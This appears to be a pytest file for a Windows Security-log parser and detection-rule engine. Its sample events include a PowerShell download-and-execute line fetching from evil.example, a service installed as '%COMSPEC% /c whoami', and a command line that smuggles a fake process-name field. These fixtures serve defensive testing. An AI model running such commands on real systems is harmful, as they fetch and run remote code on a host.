"""A rendered message gives the fields that the event itself had."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

import pytest

from haidang.events.rendered_messages import message_fields
from haidang.events.shapes import flatten, recognise
from tests.events.readers.firing import fired, write_rules

if TYPE_CHECKING:
    from pathlib import Path

PROCESS = """A new process has been created.

Creator Subject:
\tSecurity ID:\t\tS-1-5-21-1-2-3-1105
\tAccount Name:\t\tlan
\tAccount Domain:\t\tHAIVAN
\tLogon ID:\t\t0x3E7

Target Subject:
\tSecurity ID:\t\tS-1-0-0
\tAccount Name:\t\t-

Process Information:
\tNew Process ID:\t\t0x1092
\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe
\tToken Elevation Type:\t%%1936
\tCreator Process Name:\tC:\\Windows\\explorer.exe
\tProcess Command Line:\tcmd /c "echo a
\tNew Process Name:\tC:\\harmless.exe
echo b"

Token Elevation Type indicates the type of token that was assigned to the new process."""
FAILED = """An account failed to log on.

Subject:
\tSecurity ID:\t\tHAIVAN\\DC01$
\tAccount Name:\t\tDC01$

Logon Type:\t\t\t3

Account For Which Logon Failed:
\tSecurity ID:\t\tS-1-0-0
\tAccount Name:\t\tadmin
\tAccount Domain:\t\tHAIVAN

Failure Information:
\tFailure Reason:\t\tUnknown user name or bad password.
\tStatus:\t\t\t0xC000006D
\tSub Status:\t\t0xC000006A

Network Information:
\tWorkstation Name:\tKALI
\tSource Network Address:\t198.51.100.7
\tSource Port:\t\t50122
"""
SERVICE = """A service was installed in the system.

Service Name:  updater
Service File Name:  %COMSPEC% /c whoami
Service Type:  user mode service
Service Start Type:  demand start
Service Account:  LocalSystem"""
BLOCK = """Creating Scriptblock text (1 of 2):
IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')

ScriptBlock ID: 7f0c0f9e-0000-4000-8000-000000000001
Path: C:\\x.ps1"""


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_what_an_account_means_depends_on_its_section(end: str) -> None:
    fields = message_fields(PROCESS.replace("\n", end))
    assert (fields["SubjectUserName"], fields["SubjectDomainName"]) == ("lan", "HAIVAN")
    assert (fields["SubjectUserSid"], fields["TargetUserName"]) == ("S-1-5-21-1-2-3-1105", "-")
    assert fields["ParentProcessName"] == r"C:\Windows\explorer.exe"


def test_a_command_line_cannot_rename_its_process() -> None:
    fields = message_fields(PROCESS)
    assert fields["NewProcessName"] == r"C:\Windows\System32\cmd.exe"
    assert fields["CommandLine"].startswith('cmd /c "echo a')


def test_failed_logons_services_and_script_blocks_are_told() -> None:
    failed = message_fields(FAILED)
    assert (failed["LogonType"], failed["TargetUserName"], failed["IpAddress"], failed["SubStatus"]) == (
        "3",
        "admin",
        "198.51.100.7",
        "0xC000006A",
    )
    assert "SubjectUserSid" not in failed
    service = message_fields(SERVICE)
    assert (service["ServiceName"], service["ImagePath"]) == ("updater", "%COMSPEC% /c whoami")
    block = message_fields(BLOCK)
    assert block["ScriptBlockText"].startswith("IEX (New-Object")
    assert (block["Path"], block["MessageNumber"], block["ScriptBlockId"][:8]) == (
        r"C:\x.ps1",
        "1",
        "7f0c0f9e",
    )


@pytest.mark.parametrize("message", ["", "text", ":\n::\n\t:\n", "Subject:\n\tAccount Name:\n", "a:\n\tb: c"])
def test_other_messages_tell_nothing(message: str) -> None:
    assert not {name: value for name, value in message_fields(message).items() if value}


def test_hostile_messages_take_linear_time() -> None:
    began = time.process_time()
    for message in (
        "a: " * 300_000,
        "Subject:\n" * 100_000,
        "Creating Scriptblock text (1 of 1):\n" + "\n" * 500_000,
    ):
        message_fields(message)
    assert time.process_time() - began < 3


@pytest.mark.parametrize(
    "document",
    [
        {
            "LogName": "Security",
            "Id": 4688,
            "ProviderName": "Microsoft-Windows-Security-Auditing",
            "Message": PROCESS,
        },
        {"LogName": "Security", "EventCode": "4688", "ComputerName": "PC01", "Message": PROCESS},
    ],
)
def test_exports_that_keep_the_message_alone_have_its_fields(document: dict[str, object]) -> None:
    fields = flatten(recognise(document), document)
    assert fields["NewProcessName"] == r"C:\Windows\System32\cmd.exe"


def test_rules_fire_on_what_event_viewer_saves_of_the_security_log(tmp_path: Path) -> None:
    rules = write_rules(
        tmp_path / "rules",
        started=("product: windows, category: process_creation", "Image|endswith: '\\cmd.exe'"),
        failed=(
            "product: windows, service: security",
            "{EventID: 4625, TargetUserName: admin}",
        ),
    )
    rows = [
        f'Audit Success,5/11/2026 10:14:15 AM,Microsoft-Windows-Security-Auditing,{number},x,"{quoted}"\r\n'
        for number, quoted in ((4688, PROCESS.replace('"', '""')), (4625, FAILED))
    ]
    data = "Keywords,Date and Time,Source,Event ID,Task Category\r\n" + "".join(rows)
    assert fired(tmp_path, data.encode(), rules, "saved.csv") == {("started", "2"), ("failed", "3")}
